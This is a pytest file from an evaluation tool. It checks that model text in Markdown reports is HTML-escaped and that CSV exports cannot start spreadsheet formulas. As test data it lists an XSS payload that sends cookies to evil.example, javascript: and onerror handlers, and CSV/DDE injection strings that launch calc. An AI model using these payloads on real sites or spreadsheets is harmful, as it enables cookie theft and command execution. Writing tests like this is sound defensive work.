"""A model's raw HTML never lands live in a Markdown report (GitHub and IDE previews render
it), tables stay intact, and a CSV cell never starts a spreadsheet formula: one function for
each (:mod:`assay.results.safe_text`), used by every report that writes them."""

from __future__ import annotations

import csv
import io
import re

import pytest

from assay.judges.calibration_md import _cell
from assay.reports.markdown import render_suite
from assay.reports.qa import render_qa
from assay.results.safe_text import csv_cell, csv_value, md_text
from assay.results.status import FinalStatus
from tests.reports.test_rollup import graded, roll_up, row

PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    "<details open><summary>click</summary>hidden</details>",
    '<a href="javascript:alert(1)">docs</a>',
    "<iframe src=https://evil.example></iframe>",
]
LIVE_TAG = re.compile(r"<(?:img|script|details|a|iframe)\b", re.IGNORECASE)


def _outside_code(markdown: str) -> str:
    """``markdown`` without its code spans (where HTML shows as text anyway)."""
    return re.sub(r"(`+)(?:(?!\1).)*?\1", "", markdown)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_md_text_shows_html_as_text_on_one_table_row(payload: str) -> None:
    cell = md_text(f"{payload} | next\ncell")
    assert LIVE_TAG.search(cell) is None and "\n" not in cell
    assert "\\|" in cell and "⏎" in cell
    assert "&lt;" in cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_suite_md_escapes_a_models_html_in_reasons_and_errors(payload: str) -> None:
    rows = [
        graded(0, "positive", payload),
        row(1, FinalStatus.ERROR, error=f"agent crashed: {payload}\nsecond line | pipe"),
    ]
    text = render_suite(roll_up(rows))
    assert LIVE_TAG.search(_outside_code(text)) is None, text
    assert "&lt;" in text  # shown, escaped
    for line in text.splitlines():
        if line.startswith("|"):
            assert line.rstrip().endswith("|")  # every table row whole


@pytest.mark.parametrize("payload", PAYLOADS)
def test_qa_and_calibration_reports_escape_html(payload: str) -> None:
    text = render_qa({"all_metrics": [], "avg_metrics": {}, "judge": None,
                      "judge_warnings": [f"judge said {payload}"]})  # fmt: skip
    assert LIVE_TAG.search(_outside_code(text)) is None, text
    assert LIVE_TAG.search(_cell(payload)) is None


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("plain text = fine", "plain text = fine"),
        ("'=already quoted", "''=already quoted"),
        ("'tis", "''tis"),
    ],
)
def test_csv_cells_never_start_a_formula_and_read_back_exactly(value: str, cell: str) -> None:
    assert csv_cell(value) == cell
    assert csv_value(cell) == value


def test_a_dataset_export_to_csv_neutralises_formula_cells() -> None:
    from assay.store.export import write_csv
    from assay.store.models import Example
    from assay.store.schema import Schema

    schema = Schema({"text": "string"})
    examples = [Example(example_id="=1+1", data={"text": "@SUM(A1)"}, position=0),
                Example(example_id="r2", data={"text": "-1.5"}, position=1)]  # fmt: skip
    out = io.BytesIO()
    assert write_csv(examples, out, schema=schema, id_field="id") == 2
    read = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert read == [["id", "text"], ["'=1+1", "'@SUM(A1)"], ["r2", "-1.5"]]


@pytest.mark.parametrize("value", ["\r=1+1", "a\rb", "two\r\nlines", "x\ny"])
def test_a_rows_csv_record_keeps_a_carriage_return_inside_its_cell(value: str) -> None:
    """Found by a break-test: a bare carriage return was written unquoted (the csv module
    quotes only the line terminator's characters), so readers split the record there and the
    split-off cell started a formula."""
    from assay.view.export import _csv_line

    line = _csv_line(["r1", csv_cell(value), "FAILURE"])
    assert line.endswith("\n") and not line.endswith("\r\n")
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["r1", csv_cell(value), "FAILURE"]]
